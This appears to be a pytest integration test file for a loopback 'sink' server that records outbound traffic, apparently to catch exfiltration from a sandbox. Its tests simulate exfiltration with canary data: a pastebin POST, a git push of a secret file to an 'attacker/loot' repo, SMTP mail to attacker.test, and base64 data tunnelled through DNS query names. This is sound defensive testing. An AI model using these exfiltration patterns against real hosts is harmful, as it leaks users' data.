"""The sink as a real server on loopback (no Docker): real clients of every
protocol it speaks, and what it records. The container itself is exercised by
tests/integration/test_images.py."""

from __future__ import annotations

import asyncio
import base64
import json
import smtplib
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time
from pathlib import Path

import httpx
import pytest

SINK_ROOT = Path(__file__).resolve().parents[2] / "images" / "sink" / "files" / "opt" / "yolo-cage"
sys.path.insert(0, str(SINK_ROOT))

from sink.capture import EVENTS_FILE, Capture
from sink.server import Config, Sink

pytestmark = pytest.mark.integration


def _free_ports(n: int) -> list[int]:
    socks = [socket.socket() for _ in range(n)]
    for s in socks:
        s.bind(("127.0.0.1", 0))
    ports = [s.getsockname()[1] for s in socks]
    for s in socks:
        s.close()
    return ports


class RunningSink:
    def __init__(self, directory: Path):
        http, https, raw, smtp, udp, dns = _free_ports(6)
        self.ports = {"http": http, "https": https, "raw": raw, "smtp": smtp, "udp": udp, "dns": dns}
        self.config = Config((http,), (https,), (raw, smtp), (udp,), (dns,), icmp=False, dns_answer="10.1.2.3")
        self.directory = directory
        self.loop = asyncio.new_event_loop()
        self.ready = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        asyncio.set_event_loop(self.loop)
        self.sink = Sink(self.config, Capture(self.directory))
        self.loop.run_until_complete(self._start())
        self.ready.set()
        self.loop.run_forever()

    async def _start(self) -> None:
        from sink import raw

        # The SMTP dialogue is keyed by port number; use it on our free port.
        raw.SMTP_PORTS = (self.ports["smtp"],)
        self.listening, self.failed = await self.sink.start()

    def ca_context(self) -> ssl.SSLContext:
        ctx = ssl.create_default_context(cadata=self.sink.tls.ca_pem().decode())
        return ctx

    def events(self, kind: str | None = None, wait_for: int = 1, timeout: float = 5.0) -> list[dict]:
        deadline = time.monotonic() + timeout
        while True:
            lines = (self.directory / EVENTS_FILE).read_text().splitlines()
            found = [json.loads(line) for line in lines]
            found = [e for e in found if kind is None or e["kind"] == kind]
            if len(found) >= wait_for or time.monotonic() > deadline:
                return found
            time.sleep(0.05)


@pytest.fixture(scope="module")
def sink(tmp_path_factory: pytest.TempPathFactory):
    running = RunningSink(tmp_path_factory.mktemp("capture"))
    running.thread.start()
    assert running.ready.wait(10)
    assert running.failed == []
    yield running
    asyncio.run_coroutine_threadsafe(_shutdown(), running.loop).result(10)
    running.loop.call_soon_threadsafe(running.loop.stop)
    running.thread.join(10)


async def _shutdown() -> None:
    """Cancel the sink's accept loops and connections, so none is destroyed while pending."""
    current = asyncio.current_task()
    tasks = [t for t in asyncio.all_tasks() if t is not current]
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


def _url(sink: RunningSink, scheme: str, path: str) -> str:
    return f"{scheme}://127.0.0.1:{sink.ports[scheme]}{path}"


def test_http_request_is_recorded_with_body_host_and_raw_bytes(sink: RunningSink) -> None:
    before = len(sink.events("http", wait_for=0))
    r = httpx.post(_url(sink, "http", "/paste?k=v"), content=b"canary-123", headers={"Host": "pastebin.com"})
    assert r.status_code == 200 and r.json()["sink"] == "ok"
    event = sink.events("http", wait_for=before + 1)[-1]
    assert (event["method"], event["target"], event["host"], event["body_text"]) == ("POST", "/paste?k=v", "pastebin.com", "canary-123")
    assert b"canary-123" in base64.b64decode(event["raw_b64"])
    assert event["seq"] == r.json()["seq"]


def test_https_any_name_verifies_against_the_sink_ca_and_records_sni(sink: RunningSink) -> None:
    with httpx.Client(verify=sink.ca_context()) as client:
        # Connect to loopback but ask (SNI) and verify for pastebin.com, as a client that
        # resolved the name to the sink (a network alias) would.
        r = client.get(
            _url(sink, "https", "/x"), headers={"Host": "pastebin.com"}, extensions={"sni_hostname": "pastebin.com"}
        )
    assert r.status_code == 200
    connects = [e for e in sink.events("connect") if e.get("sni") == "pastebin.com"]
    assert connects and connects[-1]["scheme"] == "https" and connects[-1]["alpn"] == "http/1.1"
    assert sink.events("http")[-1]["host"] == "pastebin.com"


def test_https_untrusted_without_the_sink_ca(sink: RunningSink) -> None:
    with httpx.Client(verify=ssl.create_default_context()) as client:
        with pytest.raises(httpx.ConnectError, match="CERTIFICATE_VERIFY_FAILED"):
            client.get(_url(sink, "https", "/x"), extensions={"sni_hostname": "pastebin.com"})


def test_http2_over_tls_by_alpn(sink: RunningSink) -> None:
    with httpx.Client(http2=True, verify=sink.ca_context()) as client:
        r = client.post(f"https://localhost:{sink.ports['https']}/h2", content=b"h2-body")
    assert r.http_version == "HTTP/2" and r.status_code == 200
    event = [e for e in sink.events("http") if e["http_version"] == "2"][-1]
    assert (event["target"], event["body_text"], event["method"]) == ("/h2", "h2-body", "POST")


def test_websocket_messages_are_recorded_and_echoed(sink: RunningSink) -> None:
    from websockets.sync.client import connect

    with connect(f"ws://127.0.0.1:{sink.ports['http']}/socket") as ws:
        ws.send("ws-canary")
        assert ws.recv(timeout=5) == "ws-canary"
        ws.send(b"\x00\x01binary")
        assert ws.recv(timeout=5) == b"\x00\x01binary"
    messages = sink.events("websocket", wait_for=2)
    assert [m["text"] for m in messages[:2]] == ["ws-canary", None]
    assert base64.b64decode(messages[1]["data_b64"]) == b"\x00\x01binary"


def test_git_push_succeeds_and_the_pack_is_captured(sink: RunningSink, tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    env = {"GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_NOSYSTEM": "1", "HOME": str(tmp_path), "PATH": "/usr/bin:/bin"}
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@example.invalid", "-C", str(repo)]
    subprocess.run(["git", "init", "-q", "-b", "main", str(repo)], check=True, env=env)
    (repo / "secret.txt").write_text("git-canary\n")
    subprocess.run([*git, "add", "."], check=True, env=env)
    subprocess.run([*git, "commit", "-q", "-m", "exfil"], check=True, env=env)
    url = f"http://127.0.0.1:{sink.ports['http']}/attacker/loot.git"
    pushed = subprocess.run([*git, "push", url, "main:exfil"], env=env, capture_output=True, text=True, timeout=30)
    assert pushed.returncode == 0, pushed.stderr
    event = sink.events("git-push")[-1]
    assert event["repo"] == "/attacker/loot.git" and event["updates"][0]["ref"] == "refs/heads/exfil"
    assert base64.b64decode(event["pack_b64"]).startswith(b"PACK") and event["pack_size"] > 0


def test_raw_tcp_bytes_are_recorded(sink: RunningSink) -> None:
    with socket.create_connection(("127.0.0.1", sink.ports["raw"]), timeout=5) as conn:
        conn.sendall(b"raw-canary\x00\xff")
    event = [e for e in sink.events("tcp") if e["listener"] == f"tcp/{sink.ports['raw']}"][-1]
    assert base64.b64decode(event["data_b64"]) == b"raw-canary\x00\xff" and event["text"] is None


def test_smtp_message_is_accepted_and_recorded(sink: RunningSink) -> None:
    with smtplib.SMTP("127.0.0.1", sink.ports["smtp"], timeout=5) as smtp:
        smtp.sendmail("a@attacker.test", ["b@attacker.test"], "Subject: x\r\n\r\nsmtp-canary\r\n")
    lines = [e["text"] for e in sink.events("smtp", wait_for=6)]
    assert "smtp-canary\r\n" in lines


def test_udp_and_dns_queries_are_recorded_and_answered(sink: RunningSink) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.settimeout(5)
        udp.sendto(b"udp-canary", ("127.0.0.1", sink.ports["udp"]))
        name = b"".join(bytes([len(p)]) + p for p in (b"c2VjcmV0", b"exfil", b"attacker", b"test"))
        udp.sendto(struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + name + b"\0\x00\x01\x00\x01", ("127.0.0.1", sink.ports["dns"]))
        reply = udp.recv(512)
    assert reply[:2] == b"\x00\x07" and reply.endswith(bytes([10, 1, 2, 3]))
    assert sink.events("udp")[-1]["text"] == "udp-canary"
    assert sink.events("dns")[-1]["qname"] == "c2VjcmV0.exfil.attacker.test"


def test_garbage_on_the_http_port_is_kept_raw(sink: RunningSink) -> None:
    with socket.create_connection(("127.0.0.1", sink.ports["http"]), timeout=5) as conn:
        conn.sendall(b"NOT HTTP AT ALL\r\n\r\n")
        conn.recv(100)
    event = sink.events("unparsed")[-1]
    assert base64.b64decode(event["raw_b64"]) == b"NOT HTTP AT ALL\r\n\r\n"
